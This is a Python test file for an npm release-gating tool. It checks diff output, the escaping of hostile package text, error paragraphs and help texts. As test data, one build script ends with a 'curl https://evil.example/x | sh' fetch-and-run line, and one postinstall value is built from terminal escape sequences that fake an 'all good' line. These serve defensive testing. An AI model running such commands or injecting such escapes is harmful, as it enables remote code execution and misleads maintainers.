"""What a maintainer reads in a terminal: text snapshots of real release pairs, hostile text made
visible, unreadable input as one paragraph (exit 2), honest headers, per-flag help, `--format` for
check/publish, and the lazy imports that keep `gatekeeper diff` fast.

Snapshots live in tests/fixtures/snapshots/; after an intended change of the text output, rewrite
them with `GATEKEEPER_UPDATE_SNAPSHOTS=1 .venv/bin/python -m pytest tests/test_terminal_output.py`
and review the diff.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from gatekeeper import cli as cli_module
from gatekeeper import report
from gatekeeper._internal import terminal
from gatekeeper.decision import Decision, GateResult
from gatekeeper.diffing.result import FieldChange, field_lines
from gatekeeper.findings import Finding, Severity
from gatekeeper.modes.diff import add_diff_arguments, run_diff
from gatekeeper.report import text as report_text
from tests._support.tarballs import FIXTURES, Entry, fixture, gz, make_tgz, mutate, tar_bytes

REPO = Path(__file__).resolve().parent.parent
SNAPSHOTS = REPO / "tests" / "fixtures" / "snapshots"
PAIRS = [
    ("ms-2.1.2", "ms-2.1.3"),
    ("debug-4.3.4", "debug-4.3.5"),
    ("semver-7.6.2", "semver-7.6.3"),
    ("left-pad-1.2.0", "left-pad-1.3.0"),
    ("chalk-5.3.0", "chalk-5.4.0"),
]
#: What the Markdown reporter does to text, which must never reach a terminal.
MARKDOWN_ARTIFACTS = ("&gt;", "&lt;", "&amp;", "\\[", "\\]", "\\|", "<details>", "</summary>", "\u200b", "| ---")


def diff(*argv: str) -> tuple[int, str, str]:
    parser = argparse.ArgumentParser()
    add_diff_arguments(parser)
    out, err = io.StringIO(), io.StringIO()
    code = run_diff(parser.parse_args(list(argv)), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


# ------------------------------------------------------------------ text snapshots of real pairs


@pytest.mark.parametrize(("old", "new"), PAIRS, ids=[p[1] for p in PAIRS])
def test_text_output_of_real_release_pairs(old: str, new: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(FIXTURES)  # relative names keep the header stable
    code, out, err = diff(f"{new}.tgz", "--against", f"{old}.tgz")
    assert (code, err) == (0, "")
    snapshot = SNAPSHOTS / f"diff-{new}.txt"
    if os.environ.get("GATEKEEPER_UPDATE_SNAPSHOTS") == "1":
        snapshot.parent.mkdir(parents=True, exist_ok=True)
        snapshot.write_text(out, encoding="utf-8")
    assert out == snapshot.read_text(encoding="utf-8")
    assert not any(a in out for a in MARKDOWN_ARTIFACTS)


def test_esbuild_optional_dependency_bumps_read_one_per_line() -> None:
    """esbuild 0.20.2 bumps its 23 optionalDependencies: 23 readable lines, not two JSON blobs.

    (The delta of the engine itself: through the CLI, a dependency change also resolves both trees
    against the public registry, which this snapshot need not wait for.)"""
    from gatekeeper._internal.tarball import read_package
    from gatekeeper.diffing import diff_packages
    from gatekeeper.trust.policy import Policy

    p = Policy()
    old, new = (read_package(fixture(n), p.diff.limits) for n in ("esbuild-0.20.1", "esbuild-0.20.2"))
    text = diff_packages(old, new, p).to_text()
    snapshot = SNAPSHOTS / "delta-esbuild-0.20.2.txt"
    if os.environ.get("GATEKEEPER_UPDATE_SNAPSHOTS") == "1":
        snapshot.write_text(text, encoding="utf-8")
    assert text == snapshot.read_text(encoding="utf-8")
    assert text.count(": 0.20.1 -> 0.20.2\n") == 24  # version + 23 optional dependencies
    assert "    @esbuild/linux-x64: 0.20.1 -> 0.20.2\n" in text


def test_express_like_dependency_bump_and_added_postinstall_read_per_entry() -> None:
    """The issue's example: one line per dependency and script entry, not two JSON blobs."""
    deps_old = {f"dep-{i:02d}": "1.0.0" for i in range(30)} | {"cookie": "0.5.0"}
    deps_new = deps_old | {"cookie": "0.6.0"}
    lines = field_lines(
        [
            FieldChange("dependencies", deps_old, deps_new),
            FieldChange("scripts", {"test": "mocha"}, {"test": "mocha", "postinstall": "node setup.js"}),
        ]
    )
    assert lines == [
        "  dependencies:",
        "    cookie: 0.5.0 -> 0.6.0",
        "  scripts:",
        "    postinstall: (absent) -> node setup.js",
    ]


def test_long_values_are_shortened_around_the_change() -> None:
    start = "node scripts/build.js --mode production --target es2019 --minify --sourcemap --out dist/ "
    old, new = start + "&& node check.js", start + "&& node check.js && curl https://evil.example/x | sh"
    (line,) = field_lines([FieldChange("scripts", {"build": old}, {"build": new})])[1:]
    assert "curl https://evil.example/x | sh" in line  # the change is on screen
    assert len(line) < len(old) + len(new)  # the common start was elided, marked with …
    assert line.count("…") == 2
    # One-sided long values keep their start and their end.
    long = "x" * 150 + "END"
    (added,) = field_lines([FieldChange("scripts", {}, {"postinstall": long})])[1:]
    assert added.endswith("END") and "(absent) -> xxx" in added and "…" in added


def test_a_value_longer_than_the_screen_never_loses_the_changed_part() -> None:
    old, new = terminal.shorten_pair("a" * 500 + "OLD" + "b" * 500, "a" * 500 + "NEW" + "b" * 500, 100)
    assert "OLD" in old and "NEW" in new and old.startswith("…") and old.endswith("…")


# ------------------------------------------------------------------ hostile text in a terminal


def test_hostile_package_text_is_made_visible_not_interpreted(tmp_path: Path) -> None:
    evil = "node x.js \x1b[2K\x1b[1A\rall good\u202e <b>&amp;</b> [link](https://e.x) a|b @maintainers\u200b"

    def edit(doc: dict[str, Any]) -> None:
        doc["scripts"] = {"postinstall": evil}
        doc["description"] = "line1\nline2"

    cand = mutate(fixture("ms-2.1.3"), tmp_path / "evil.tgz", manifest=edit, files={"x.js": "1\n"})
    code, out, _ = diff(str(cand), "--against", str(fixture("ms-2.1.2")))
    assert code == 1
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out and "\u200b" not in out
    assert "\\e[2K\\e[1A\\rall good\\u{202E}" in out and "\\u{200B}" in out
    assert "<b>&amp;</b> [link](https://e.x) a|b @maintainers" in out  # shown as it is, not escaped
    assert "&gt;" not in out and "\\[" not in out and "\\|" not in out
    assert "line1\\nline2" in out


def _outcome(**kw: Any) -> report.Outcome:
    f = Finding("lifecycle-script-added", Severity.BLOCK, "postinstall `a -> b` <x> [y] c|d @team", file="package.json")
    base: dict[str, Any] = {
        "mode": "check",
        "decision": Decision(False, 1, "blocked"),
        "gates": [GateResult("branch", "pass"), GateResult("diff", "fail", [f])],
        "package": {"name": "express", "version": "4.19.2"},
        "previous": {"name": "express", "version": "4.19.1"},
    }
    return report.Outcome(**{**base, **kw})


def test_check_text_report_has_no_markdown_entities_escapes_or_zero_width() -> None:
    text = report.render(_outcome(), "text", report.to_markdown(_outcome()))
    assert text.startswith("npm-gatekeeper: express@4.19.2 blocked - NOT published\n")
    assert "  previous release: express@4.19.1\n" in text  # copy-pasteable into `npm view`
    assert "  gate branch: pass\n  gate diff: fail (1 block)\n" in text
    assert "BLOCK lifecycle-script-added package.json: postinstall `a -> b` <x> [y] c|d @team\n      fix: " in text
    assert not any(a in text for a in MARKDOWN_ARTIFACTS)


def test_pull_request_text_report() -> None:
    from gatekeeper.modes.pull_request.reporting import PullRequestOutcome, to_text

    f = Finding("lifecycle-script-added", Severity.BLOCK, "postinstall added: node x.js", file="package.json", line=4)
    outcome = report.Outcome(
        mode="pull-request", decision=Decision(False, 1, "x"), gates=[GateResult("manifests", "fail", [f])]
    )
    info = {"number": 7, "merge_base": "a" * 40, "head_sha": "b" * 40, "policy": ".github/npm-gatekeeper.yml"}
    text = to_text(PullRequestOutcome(outcome, info))
    assert text.startswith("npm-gatekeeper: pull request #7 changes what runs at install time\n")
    assert "  gate manifests: fail (1 block)\nBLOCK lifecycle-script-added package.json:4: postinstall added" in text
    assert text.endswith(f"compared {'a' * 12} (merge base) with {'b' * 12} (head) from git objects; "
                         "policy: .github/npm-gatekeeper.yml\n")  # fmt: skip
    assert not any(a in text for a in MARKDOWN_ARTIFACTS)


def test_an_error_before_any_gate_prints_no_empty_gates_table() -> None:
    outcome = report.Outcome(mode="check", decision=Decision(False, 2, "x"), gates=[], error="No package.json in /x")
    assert report_text.to_text(outcome) == ""
    md = report.to_markdown(outcome)
    assert "| Gate |" not in md and "No package.json in /x" in md


# ------------------------------------------------------------------ unreadable input: exit 2, one paragraph


def _not_gzip(tmp: Path) -> Path:
    (tmp / "notes.tgz").write_text("this is not a tarball\n")
    return tmp / "notes.tgz"


def _gzip_not_tar(tmp: Path) -> Path:
    (tmp / "text.tgz").write_bytes(gzip.compress(b"just some text, no tar headers at all\n" * 40))
    return tmp / "text.tgz"


def _no_package_json(tmp: Path) -> Path:
    return make_tgz({"index.js": "module.exports = 1\n"}, tmp / "nopkg.tgz")


def _broken_json(tmp: Path) -> Path:
    (tmp / "broken.tgz").write_bytes(gz(tar_bytes([Entry("package/package.json", b'{"name": "x",')])))
    return tmp / "broken.tgz"


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (_not_gzip, "is not a gzip-compressed tar archive (it looks like plain text)"),
        (_gzip_not_tar, "is gzip-compressed, but what it holds is not a tar archive"),
        (_no_package_json, "has no package.json at the package root"),
        (_broken_json, "has a broken package.json: not valid JSON"),
    ],
    ids=["not-gzip", "gzip-not-tar", "no-package-json", "broken-json"],
)
@pytest.mark.parametrize("role", ["candidate", "baseline"])
def test_unreadable_input_exits_2_naming_the_file(make: Any, says: str, role: str, tmp_path: Path) -> None:
    bad = make(tmp_path)
    good = fixture("ms-2.1.2") if role == "candidate" else fixture("ms-2.1.3")
    argv = [str(bad), "--against", str(good)] if role == "candidate" else [str(good), "--against", str(bad)]
    code, out, err = diff(*argv)
    assert code == 2 and out == ""
    assert err.startswith(f"npm-gatekeeper diff: The {role} {bad} is not a readable npm package: it {says}")
    assert err.count("\n") == 1  # one paragraph
    code, out, _ = diff(*argv, "--format", "json")
    data = json.loads(out)
    assert code == 2 and data["gates"] == {"diff": "error"} and str(bad) in data["error"]


def test_the_header_says_what_was_compared_with_what(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(FIXTURES)
    code, out, _ = diff("ms-2.1.3.tgz", "--against", "ms-2.1.2.tgz")
    assert code == 0
    assert "candidate: ms-2.1.3.tgz (a local file)\nbaseline:  ms-2.1.2.tgz (a local file, --against)\n" in out
    assert "first release" not in out and "integrity ok" not in out  # a local file was not verified
    code, out, _ = diff("ms-2.1.3.tgz", "--against", "ms-2.1.2.tgz", "--format", "markdown")
    assert (
        "- candidate: `ms-2.1.3.tgz (a local file)`" in out
        and "- baseline: `ms-2.1.2.tgz (a local file, --against)`" in out
    )
    data = json.loads(diff("ms-2.1.3.tgz", "--against", "ms-2.1.2.tgz", "--format", "json")[1])
    assert data["compared"] == {
        "candidate": "ms-2.1.3.tgz (a local file)",
        "baseline": "ms-2.1.2.tgz (a local file, --against)",
        "registries": [],
    }


def test_unreachable_registry_is_a_human_paragraph(monkeypatch: pytest.MonkeyPatch, free_port: int) -> None:
    monkeypatch.setenv("GATEKEEPER_REGISTRY_RETRIES", "0")
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    code, out, err = diff("ms@2.1.3", "--registry", f"http://127.0.0.1:{free_port}/")
    assert code == 2 and out == ""
    assert f"The npm registry at http://127.0.0.1:{free_port}/ could not be reached: the connection was refused" in err
    for raw in ("HTTPConnectionPool", "Max retries", "NewConnectionError", "urllib3", "Errno"):
        assert raw not in err
    assert "re-run the job" not in err and "then try again." in err
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    _, _, err = diff("ms@2.1.3", "--registry", f"http://127.0.0.1:{free_port}/")
    assert "then re-run the job." in err


@pytest.fixture
def free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# ------------------------------------------------------------------ help texts


def _help(*argv: str) -> str:
    """The whole --help text of a subcommand, whitespace-normalised (argparse wraps lines)."""
    out = io.StringIO()
    with pytest.raises(SystemExit), contextlib.redirect_stdout(out):
        cli_module.build_parser().parse_args([*argv, "--help"])
    return " ".join(out.getvalue().split())


def _flag_help(command: str, flag: str) -> str:
    """The help text of one flag of a subcommand, read from the parser itself."""
    parser = cli_module.build_parser()
    sub = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    action = next(a for a in sub.choices[command]._actions if flag in a.option_strings)
    return action.help or ""


PARSED = [
    ["diff", "a.tgz", "--against", "b.tgz", "--format", "json"],
    ["check", "--registry", "http://127.0.0.1:1/", "--gates", "diff,policy", "--format", "text"],
    ["publish", "--dry-run", "--skip-gates", "branch", "--pack-version", "1.2.3"],
    ["pull-request", "--policy", "p.yml"],
    ["watch", "--report", "r.json"],
    ["notify", "--from-report", "r.json"],
    ["action"],
]


@pytest.mark.parametrize("argv", PARSED, ids=lambda a: a[0])
def test_the_subcommand_only_parser_parses_as_the_whole_one(argv: list[str]) -> None:
    """`build_parser(argv)` declares only argv's subcommand (start-up); the parse must not change."""
    assert vars(cli_module.build_parser(argv).parse_args(argv)) == vars(cli_module.build_parser().parse_args(argv))
    sub = next(a for a in cli_module.build_parser(argv)._actions if isinstance(a, argparse._SubParsersAction))
    assert list(sub.choices) == [argv[0]]


def test_no_or_an_unknown_subcommand_still_lists_every_subcommand() -> None:
    for argv in ([], ["nope"], ["--help"]):
        out, err = io.StringIO(), io.StringIO()
        with pytest.raises(SystemExit), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            cli_module.main(argv)
        assert "{publish,check,action,pull-request,watch,notify,diff}" in out.getvalue() + err.getvalue()


@pytest.mark.parametrize("command", ["check", "publish", "watch"])  # pull-request reads no npm token
def test_token_flags_name_exactly_the_sources_they_read(command: str) -> None:
    npm, gh = _flag_help(command, "--npm-token"), _flag_help(command, "--github-token")
    assert npm != gh
    for source in ("--npm-token", "INPUT_NPM-TOKEN", "NODE_AUTH_TOKEN", "NPM_TOKEN"):
        assert source in npm
    assert "GITHUB_TOKEN" not in npm and "INPUT_GITHUB-TOKEN" not in npm
    for source in ("--github-token", "INPUT_GITHUB-TOKEN", "GITHUB_TOKEN"):
        assert source in gh
    assert "NPM_TOKEN" not in gh.replace("GITHUB_TOKEN", "") and "NODE_AUTH_TOKEN" not in gh


def test_every_input_flag_names_its_env_var_and_default() -> None:
    from gatekeeper.config import INPUT_DEFAULTS, env_name

    for name, default in INPUT_DEFAULTS.items():
        if name == "mode":
            continue
        text = _flag_help("check", f"--{name}")
        assert f"--{name}" in text and env_name(name) in text, name
        if default and name != "dry-run":
            assert f"default: {default}" in text, name
    assert "text when stdout is a terminal" in _flag_help("check", "--format")
    assert "--format {text,markdown,json}" in _help("check")


def test_diff_registry_help_names_npms_config_sources() -> None:
    text = _flag_help("diff", "--registry")
    sources = ("npm_config_registry", "project .npmrc", "user .npmrc", "~/.npmrc", "@scope:registry")
    for source in (*sources, "npm_config_globalconfig", "$PREFIX/etc/npmrc", "builtin"):
        assert source in text
    assert "NODE_AUTH_TOKEN" in text and "GITHUB_TOKEN" not in text


# ------------------------------------------------------------------ --format for check / publish


def test_output_format_defaults_to_text_on_a_terminal() -> None:
    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    assert cli_module.output_format(None, Tty()) == "text"
    assert cli_module.output_format(None, io.StringIO()) == "markdown"
    assert cli_module.output_format("json", Tty()) == "json"


def _gatekeeper(*argv: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_"))}
    return subprocess.run(
        [sys.executable, "-m", "gatekeeper", *argv],
        cwd=cwd,
        env={**base, "PYTHONPATH": str(REPO), **(env or {})},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
def test_check_error_before_the_gates_prints_one_paragraph_and_no_empty_table(fmt: str, tmp_path: Path) -> None:
    proc = _gatekeeper("check", "--package-path", "missing", "--format", fmt, cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and "No package.json in" in proc.stderr
    assert "| Gate |" not in proc.stdout and "gate " not in proc.stdout
    if fmt == "text":
        assert proc.stdout == ""
    if fmt == "json":
        assert json.loads(proc.stdout)["error"].startswith("No package.json in")


def test_check_in_text_and_json_against_a_real_registry(verdaccio: Any, tmp_path: Path) -> None:
    from tests.test_diff_cli import write_package

    pkg = write_package(tmp_path / "pkg", verdaccio.unique("gk-fmt"), "1.0.0")
    env = {"GATEKEEPER_REGISTRY_RETRIES": "0"}
    text = _gatekeeper("check", "--registry", verdaccio.url, "--format", "text", cwd=pkg, env=env)
    assert text.returncode == 1, text.stderr
    assert text.stdout.startswith("npm-gatekeeper: ") and " blocked - NOT published\n" in text.stdout
    assert "  gate branch: fail (1 block)" in text.stdout and "BLOCK not-in-ci: " in text.stdout
    assert "\n      fix: " in text.stdout
    assert not any(a in text.stdout for a in MARKDOWN_ARTIFACTS)
    data = json.loads(_gatekeeper("check", "--registry", verdaccio.url, "--format", "json", cwd=pkg, env=env).stdout)
    assert data["decision"] == "block" and data["gates"]["branch"] == "fail"
    md = _gatekeeper("check", "--registry", verdaccio.url, cwd=pkg, env=env).stdout  # not a terminal: markdown
    assert md.startswith("## ") and "| Gate | Result | Findings |" in md


# ------------------------------------------------------------------ start-up: lazy imports

#: tree_sitter (and its grammars): the install-code parser is loaded only for an install closure with files to read.
HEAVY = ("github", "cryptography", "yaml", "requests", "urllib3", "tarfile", "tree_sitter", "tree_sitter_javascript")
#: Our own modules that pull those in: the diff path never imports them.
OURS_HEAVY = ("gatekeeper.modes.publish", "gatekeeper._internal.github", "gatekeeper._internal.npm")

PROBE = """
import sys
from gatekeeper.cli import main
code = main(sys.argv[1:])
loaded = sorted(m for m in sys.modules if m.split(".")[0] in {heavy!r} or m in {ours!r})
print("LOADED", code, ",".join(loaded) or "-")
"""


def test_diff_of_two_local_tarballs_imports_nothing_heavy() -> None:
    """`gatekeeper diff a.tgz --against b.tgz` must not load PyGithub, cryptography, YAML, requests, npm."""
    code = PROBE.format(heavy=set(HEAVY), ours=set(OURS_HEAVY))
    argv = [sys.executable, "-c", code, "diff", str(fixture("ms-2.1.3")), "--against", str(fixture("ms-2.1.2"))]
    proc = subprocess.run(
        argv, capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)}, check=False
    )
    line = next((x for x in proc.stdout.splitlines() if x.startswith("LOADED")), "LOADED ? ?")
    _, rc, loaded = line.split(" ")
    assert rc == "0", proc.stdout + proc.stderr
    assert loaded == "-", f"imported at start-up: {loaded}"


def test_a_policy_file_or_a_registry_still_loads_what_it_needs(tmp_path: Path) -> None:
    policy = tmp_path / "p.yml"
    policy.write_text("rules:\n  large-change: warn\n")
    code = PROBE.format(heavy={"yaml"}, ours=set())
    argv = [sys.executable, "-c", code, "diff", str(fixture("ms-2.1.3")), "--against", str(fixture("ms-2.1.2"))]
    proc = subprocess.run(
        [*argv, "--policy", str(policy)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        check=False,
    )
    assert "LOADED 0 yaml" in proc.stdout, proc.stdout + proc.stderr
